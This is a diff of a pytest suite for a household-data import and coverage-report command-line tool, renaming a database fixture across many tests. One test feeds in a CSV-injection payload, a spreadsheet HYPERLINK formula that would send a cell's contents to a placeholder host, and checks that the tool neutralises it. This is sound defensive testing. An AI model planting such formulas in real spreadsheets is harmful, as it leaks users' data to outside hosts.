@@ -36,19 +36,11 @@ def one_line(stderr: str) -> str:
 
 
 
-@pytest.fixture()
-def world(tiny):
-    """The tiny world's database file, closed so subprocesses may open it."""
-    con, path = tiny
-    con.close()
-    return path
-
-
 # ----------------------------------------------------------------------------- exit status
 
-def test_import_success_exit_0_with_summary(world, tmp_path):
+def test_import_success_exit_0_with_summary(tiny_db, tmp_path):
     f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"], [["N1", "甲", G111], ["N2", "乙", "NOPE"]])
-    p = run("import", "households", str(f), "--errors", str(tmp_path / "err.csv"), db=world)
+    p = run("import", "households", str(f), "--errors", str(tmp_path / "err.csv"), db=tiny_db)
     assert p.returncode == 0, p.stderr
     assert p.stdout.strip() == "hh.csv: households imported 1, updated 0, skipped 0, rejected 1, unassigned 0"
     said = Message("ingest.error.unknown_code", what=Message("ingest.what.grid"), code="NOPE")   # 中文 / English
@@ -59,53 +51,53 @@ def test_import_success_exit_0_with_summary(world, tmp_path):
     assert rows[0] == ["row", "column", "value", "message"] and rows[1] == ["3", "网格编码", "NOPE", said]
 
 
-def test_rejected_rows_csv_carries_no_formula(world, tmp_path):
+def test_rejected_rows_csv_carries_no_formula(tiny_db, tmp_path):
     """A rejected value typed as a formula comes back in --errors as text (OWASP CSV injection)."""
     f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"],
                   [["N1", "甲", '=HYPERLINK("http://x?"&A1,"点此")'], ["N2", "乙", "@SUM(1+1)"]])
-    p = run("import", "households", str(f), "--errors", str(tmp_path / "err.csv"), db=world)
+    p = run("import", "households", str(f), "--errors", str(tmp_path / "err.csv"), db=tiny_db)
     assert p.returncode == 1, p.stderr
     rows = list(csv.reader(io.StringIO((tmp_path / "err.csv").read_bytes().decode("utf-8-sig"))))
     assert [r[2] for r in rows[1:]] == ["'=HYPERLINK(\"http://x?\"&A1,\"点此\")", "'@SUM(1+1)"]
 
 
-def test_missing_file_is_one_line_exit_1(world, tmp_path):
-    p = run("import", "households", str(tmp_path / "nope.csv"), db=world)
+def test_missing_file_is_one_line_exit_1(tiny_db, tmp_path):
+    p = run("import", "households", str(tmp_path / "nope.csv"), db=tiny_db)
     assert p.returncode == 1
     assert one_line(p.stderr) == Message("ingest.error.no_file", at=f"{tmp_path / 'nope.csv'}: ")
 
 
-def test_missing_boundary_file_is_one_line_exit_1(world, tmp_path):
-    p = run("import", "boundaries", str(tmp_path / "nope.shp"), "--level", "grid", db=world)
+def test_missing_boundary_file_is_one_line_exit_1(tiny_db, tmp_path):
+    p = run("import", "boundaries", str(tmp_path / "nope.shp"), "--level", "grid", db=tiny_db)
     assert p.returncode == 1
     assert one_line(p.stderr) == Message("ingest.error.no_file", at=f"{tmp_path / 'nope.shp'}: ")
 
 
-def test_all_rows_rejected_exit_1(world, tmp_path):
+def test_all_rows_rejected_exit_1(tiny_db, tmp_path):
     f = write_csv(tmp_path / "v.csv", ["户编号", "工号", "走访日期"], [["H99", "S1", "2026-01-05"], ["H01", "S9", "2026-01-05"]])
-    p = run("import", "visits", str(f), db=world)
+    p = run("import", "visits", str(f), db=tiny_db)
     assert p.returncode == 1
     assert "v.csv row 2 column 户编号" in p.stderr and "v.csv row 3 column 工号" in p.stderr
     assert "Traceback" not in p.stderr
 
 
-def test_strict_with_bad_rows_exit_1_nothing_written(world, tmp_path):
+def test_strict_with_bad_rows_exit_1_nothing_written(tiny_db, tmp_path):
     f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码", "人口数"], [["N1", "甲", G111, "2"], ["N2", "乙", G111, "abc"]])
-    p = run("import", "households", str(f), "--strict", db=world)
+    p = run("import", "households", str(f), "--strict", db=tiny_db)
     assert p.returncode == 1 and p.stderr.endswith(f"{Message('cli.error.strict', rows=1)}\n")
     from store import db
 
-    con = db.connect(world)
+    con = db.connect(tiny_db)
     try:
         assert con.execute("SELECT count(*) FROM households WHERE code IN ('N1','N2')").fetchone()[0] == 0
     finally:
         con.close()
 
 
-def test_reimport_same_file_exit_0_changes_nothing(world, tmp_path):
+def test_reimport_same_file_exit_0_changes_nothing(tiny_db, tmp_path):
     f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"], [["N1", "甲", G111]])
-    assert run("import", "households", str(f), db=world).returncode == 0
-    p = run("import", "households", str(f), db=world)
+    assert run("import", "households", str(f), db=tiny_db).returncode == 0
+    p = run("import", "households", str(f), db=tiny_db)
     assert p.returncode == 0
     assert "imported 0, updated 0, skipped 1, rejected 0" in p.stdout
 
@@ -143,9 +135,9 @@ def test_every_command_creates_a_missing_database(tmp_path):
             assert path.exists()
 
 
-def test_lianxin_db_used_when_db_absent(world, tmp_path):
+def test_lianxin_db_used_when_db_absent(tiny_db, tmp_path):
     p = run("report", "coverage", "--level", "township", "--from", "2026-11-01", "--to", "2026-11-30",
-          "--format", "json", env={"LIANXIN_DB": str(world)})
+          "--format", "json", env={"LIANXIN_DB": str(tiny_db)})
     assert p.returncode == 0, p.stderr
     rows = json.loads(p.stdout)
     assert {r["code"] for r in rows} == {T1, "500100002000"}
@@ -157,9 +149,9 @@ def test_lianxin_db_used_when_db_absent(world, tmp_path):
 COVERAGE = ["report", "coverage", "--level", "grid", "--from", "2026-11-01", "--to", "2026-11-30"]
 
 
-def test_report_csv_output_utf8_bom_snake_case(world, tmp_path):
+def test_report_csv_output_utf8_bom_snake_case(tiny_db, tmp_path):
     out = tmp_path / "out" / "cov.csv"
-    p = run(*COVERAGE, "--format", "csv", "--output", str(out), db=world)
+    p = run(*COVERAGE, "--format", "csv", "--output", str(out), db=tiny_db)
     assert p.returncode == 0, p.stderr
     raw = out.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")
@@ -168,44 +160,44 @@ def test_report_csv_output_utf8_bom_snake_case(world, tmp_path):
     assert len(rows) == 1 + 5
 
 
-def test_report_lang_zh_chinese_headers(world):
-    p = run(*COVERAGE, "--format", "csv", "--lang", "zh", db=world)
+def test_report_lang_zh_chinese_headers(tiny_db):
+    p = run(*COVERAGE, "--format", "csv", "--lang", "zh", db=tiny_db)
     assert p.returncode == 0, p.stderr
     header = next(csv.reader(io.StringIO(p.stdout.lstrip("\ufeff"))))
     assert len(header) == 5 and all(any("\u4e00" <= ch <= "\u9fff" for ch in h) for h in header)
 
 
-def test_report_json_parses(world):
-    p = run(*COVERAGE, "--format", "json", db=world)
+def test_report_json_parses(tiny_db):
+    p = run(*COVERAGE, "--format", "json", db=tiny_db)
     assert p.returncode == 0, p.stderr
     rows = json.loads(p.stdout)
     assert {r["code"] for r in rows} >= {G111, G211}
     assert set(rows[0]) == {"code", "name", "households", "visited", "coverage"}
 
 
-def test_as_user_filters_reports(world):
-    p = run("users", "add", "clerk", "--role", "office", "--areas", T1, db=world,
+def test_as_user_filters_reports(tiny_db):
+    p = run("users", "add", "clerk", "--role", "office", "--areas", T1, db=tiny_db,
             env={"LIANXIN_PASSWORD": PASSWORD})
     assert p.returncode == 0, p.stderr
-    mine = json.loads(run("--as", "clerk", *COVERAGE, "--format", "json", db=world).stdout)
-    everyone = json.loads(run(*COVERAGE, "--format", "json", db=world).stdout)
+    mine = json.loads(run("--as", "clerk", *COVERAGE, "--format", "json", db=tiny_db).stdout)
+    everyone = json.loads(run(*COVERAGE, "--format", "json", db=tiny_db).stdout)
     assert {r["code"] for r in mine} == {r["code"] for r in everyone if r["code"].startswith("5001000012")}
     assert len(mine) == 3 and len(everyone) == 5
 
 
-def test_as_unknown_user_exit_1(world):
-    p = run("--as", "nobody", *COVERAGE, db=world)
+def test_as_unknown_user_exit_1(tiny_db):
+    p = run("--as", "nobody", *COVERAGE, db=tiny_db)
     assert p.returncode == 1
     assert one_line(p.stderr) == Message("cli.error.no_user", user="nobody")
 
 
-def test_import_as_user_is_audited_under_their_name(world, tmp_path):
-    run("users", "add", "clerk", "--role", "office", "--areas", T1, db=world, env={"LIANXIN_PASSWORD": PASSWORD})
+def test_import_as_user_is_audited_under_their_name(tiny_db, tmp_path):
+    run("users", "add", "clerk", "--role", "office", "--areas", T1, db=tiny_db, env={"LIANXIN_PASSWORD": PASSWORD})
     f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"], [["N1", "甲", G111]])
-    assert run("--as", "clerk", "import", "households", str(f), db=world).returncode == 0
+    assert run("--as", "clerk", "import", "households", str(f), db=tiny_db).returncode == 0
     from store import db
 
-    con = db.connect(world)
+    con = db.connect(tiny_db)
     try:
         row = con.execute("SELECT user_name, action, counts FROM audit_log WHERE action = 'import' "
                           "ORDER BY id DESC LIMIT 1").fetchone()
@@ -214,7 +206,7 @@ def test_import_as_user_is_audited_under_their_name(world, tmp_path):
     assert row[0] == "clerk" and row[1] == "import" and '"imported": 1' in str(row[2])
 
 
-def test_boundary_import_via_cli(world, tmp_path):
+def test_boundary_import_via_cli(tiny_db, tmp_path):
     import geopandas as gpd
     import shapely
 
@@ -222,7 +214,7 @@ def test_boundary_import_via_cli(world, tmp_path):
                            geometry=[shapely.box(107.2, 30.0, 107.4, 30.2)], crs="EPSG:4490")
     path = tmp_path / "g.gpkg"
     gdf.to_file(path, driver="GPKG")
-    p = run("import", "boundaries", str(path), "--level", "grid", db=world)
+    p = run("import", "boundaries", str(path), "--level", "grid", db=tiny_db)
     assert p.returncode == 0, p.stderr
     assert p.stdout.strip().startswith("g.gpkg: grid imported 0, updated 1")
     assert "households moved" in p.stdout
